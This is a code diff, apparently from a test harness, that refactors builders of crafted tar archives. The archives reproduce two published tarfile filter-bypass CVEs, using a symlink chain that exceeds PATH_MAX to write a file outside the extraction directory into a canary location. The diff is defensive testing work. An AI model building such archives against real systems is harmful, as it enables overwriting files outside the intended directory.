@@ -101,21 +101,28 @@ def _up_to(dest: Path, target: Path) -> str:
 
 # ------------------------------------------------------------------ the published PoC shapes
 
+_STEPS = "abcdefghijklmnop"
+
+
+def _past_path_max(tar: tarfile.TarFile, prefix: str, letter: str) -> str:
+    """The chain both realpath() PoCs share: nested 247-char dirs, each reached through a
+    one-letter symlink, so the resolved path outgrows PATH_MAX while the written one stays
+    short. Returns a link at the bottom that climbs back up to `prefix`."""
+    comp, path = letter * 247, prefix
+    for step in _STEPS:
+        _dir(tar, os.path.join(path, comp))
+        _sym(tar, os.path.join(path, step), comp)
+        path = os.path.join(path, comp)
+    link_path = os.path.join(prefix, *_STEPS, "l" * 254)
+    _sym(tar, link_path, os.path.join(*[".."] * len(_STEPS)))
+    return link_path
+
 
 def cve_2025_4517(dest: Path, canary: Canary, prefix: str) -> bytes:
     """Nested long-named dirs and symlinks: realpath() stops short of PATH_MAX, the filter
     thinks the final link stays inside, and a file is written through it."""
-    comp = "d" * 247
-    steps = "abcdefghijklmnop"
-
     def build(tar: tarfile.TarFile) -> None:
-        path = prefix
-        for step in steps:
-            _dir(tar, os.path.join(path, comp))
-            _sym(tar, os.path.join(path, step), comp)
-            path = os.path.join(path, comp)
-        link_path = os.path.join(prefix, *steps, "l" * 254)
-        _sym(tar, link_path, os.path.join(*[".."] * len(steps)))
+        link_path = _past_path_max(tar, prefix, "d")
         escape = os.path.join(link_path, _up_to(dest / prefix if prefix else dest, canary.dir))
         _sym(tar, os.path.join(prefix, "escape"), escape)
         _file(tar, os.path.join(prefix, "escape", "secret"), b"overwritten")
@@ -126,17 +133,8 @@ def cve_2025_4517(dest: Path, canary: Canary, prefix: str) -> bytes:
 
 def cve_2025_4330(dest: Path, canary: Canary, prefix: str) -> bytes:
     """The same chain used for a symlink that points outside, then written through."""
-    comp = "c" * 247
-    steps = "abcdefghijklmnop"
-
     def build(tar: tarfile.TarFile) -> None:
-        path = prefix
-        for step in steps:
-            _dir(tar, os.path.join(path, comp))
-            _sym(tar, os.path.join(path, step), comp)
-            path = os.path.join(path, comp)
-        link_path = os.path.join(prefix, *steps, "l" * 254)
-        _sym(tar, link_path, os.path.join(*[".."] * len(steps)))
+        link_path = _past_path_max(tar, prefix, "c")
         outside = _up_to(dest / prefix if prefix else dest, canary.dir)
         _sym(tar, os.path.join(prefix, "out"), os.path.join(link_path, outside))
         _file(tar, os.path.join(prefix, "out", "secret"), b"overwritten")
